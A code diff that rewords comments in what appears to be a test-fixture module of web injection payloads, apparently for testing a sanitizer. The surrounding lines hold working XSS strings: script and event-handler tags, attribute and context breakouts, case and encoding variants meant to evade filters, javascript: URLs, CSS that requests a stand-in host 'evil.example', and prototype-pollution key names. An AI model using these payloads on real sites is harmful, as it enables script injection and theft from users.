@@ -1,7 +1,7 @@
 /**
- * Texts that run a program, leave the page or send for something where a page trusts them: written by the
- * ways there are, each way in each wrapping that gets it out of where it stands. All call the same four
- * functions, and ask the same host, which does not exist.
+ * Texts that run a program, navigate or send a request where a page trusts them: each way in each
+ * wrapping that escapes its context. All call the same four functions and request the same host,
+ * which does not exist.
  */
 
 export const EVIL = 'https://evil.example'
@@ -99,7 +99,7 @@ const ELEMENTS = [
   `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
 ]
 
-/** What ends the place that a text was put into, so that the rest is read as HTML. */
+/** Ends the context of a text, so that the rest is read as HTML. */
 const BREAKOUTS = [
   '">',
   "'>",
@@ -129,7 +129,7 @@ const BROKEN_OUT = BREAKOUTS.flatMap((end) => [
   `${end}<svg/onload=${CALL}//`,
 ])
 
-/** The same written so that whoever searches for it does not find it. */
+/** The same, obfuscated against filters. */
 const DISGUISED = [
   `<IMG SRC=x OnErRoR=${CALL}>`,
   `<img/src=x/onerror=${CALL}>`,
@@ -161,14 +161,14 @@ const DISGUISED = [
   'x\ud800<img src=x onerror=alert(1)>',
 ]
 
-/** What an attribute is left by without an angle bracket. */
+/** Leaves an attribute without an angle bracket. */
 const QUOTES = ['"', "'", '`', '" ', "' ", ' ', '&quot;', '&#34;', '\\"']
 const HANDED_ON = QUOTES.flatMap((quote) => [
   `x${quote} onmouseover=${CALL} onfocus=${CALL} autofocus tabindex=0 x=${quote}`,
   `x${quote} style=animation:x onanimationstart=${CALL} x=${quote}`,
 ])
 
-/** Addresses that run a program, or lead to somebody else. */
+/** Addresses that run a program or lead to another host. */
 const ADDRESSES = [
   `javascript:${CALL}`,
   `JaVaScRiPt:${CALL}`,
@@ -219,7 +219,7 @@ const ADDRESSES = [
   `tel:"><img src=x onerror=${CALL}>`,
 ]
 
-/** Styles that leave their box, send for something or hide what stands beside. */
+/** Styles that leave their box, send a request or hide their surroundings. */
 const STYLES = [
   'red;position:fixed;inset:0;z-index:9999',
   `red;background:url(${EVIL}/x.png)`,
@@ -237,7 +237,7 @@ const STYLES = [
   'center" class="wq-panel',
 ]
 
-/** Names that a page, a parser or an object has a use of its own for. */
+/** Names with a meaning for pages, parsers or objects. */
 const NAMES = [
   '__proto__',
   'constructor',
